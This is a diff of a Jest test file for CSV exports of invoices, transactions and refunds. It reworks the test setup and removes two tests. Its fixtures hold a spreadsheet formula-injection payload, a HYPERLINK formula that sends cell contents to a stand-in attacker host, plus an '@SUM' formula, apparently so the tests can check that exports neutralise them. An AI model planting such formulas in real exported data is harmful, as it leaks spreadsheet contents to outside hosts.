@@ -1,11 +1,11 @@
-import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
+import { beforeAll, describe, expect, test } from '@jest/globals'
 import { parse } from 'csv-parse/sync'
 import { BOOK_OPERATIONS } from '../../src/http/openapi/operations/books.ts'
 import { EXPORT_TABLES, type ExportName } from '../../src/persistence/queries/exports/export-tables.ts'
-import { type Interface, startInterface } from './interface.ts'
+import { interfaceForFile } from './interface.ts'
 import { rowWriter } from './listed-rows.ts'
 
-let api: Interface
+const api = interfaceForFile()
 const NAMES = Object.keys(EXPORT_TABLES) as ExportName[]
 const AT = new Date('2026-11-21T01:17:10.123Z')
 const get = (name: string, from = '2026-11-01', until = '2026-12-01') =>
@@ -17,7 +17,6 @@ const idsOf = async (...asked: Parameters<typeof get>) => rowsIn((await get(...a
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Total")'
 
 beforeAll(async () => {
-  api = await startInterface()
   const rows = await rowWriter(api, api.merchant)
   await rows.invoice('iv_1', { orderId: FORMULA })
   await rows.transaction('tr_1', 'iv_1', {
@@ -34,7 +33,6 @@ beforeAll(async () => {
   await rows.operation('tr_op_2', 'tr_1', { type: 'capture', ...result, gatewayOperationId: 'sim_cap_1' })
   await rows.refund('refd_1', 'tr_1', { amountMinor: 1_000, information: '@SUM(A1:A9)' })
 })
-afterAll(() => api.stop())
 
 describe('an export', () => {
   test('of transactions has their amounts as decimals of their currency, and instants in UTC', async () => {
@@ -72,12 +70,6 @@ describe('an export', () => {
         attempt_id: 'tr_op_1',
         gateway_operation_id: 'sim_cap_1',
       },
-    ])
-  })
-
-  test('of refunds has what was given back', async () => {
-    expect(rowsIn((await get('refunds')).body)).toMatchObject([
-      { id: 'refd_1', transaction_id: 'tr_1', status: 'succeeded', amount: '10.00', currency: 'EUR', reason: 'other' },
     ])
   })
 
@@ -122,10 +114,6 @@ describe('an export', () => {
     expect(listed).toHaveLength(2_500)
     expect(new Set(listed).size).toBe(2_500)
     expect(listed).toEqual(listed.toSorted())
-  })
-
-  test('without rows is the line of headers', async () => {
-    for (const name of NAMES) expect((await get(name, '2020-01-01', '2020-01-31')).body.split('\r\n')).toHaveLength(2)
   })
 
   test('has nothing of another project or environment', async () => {
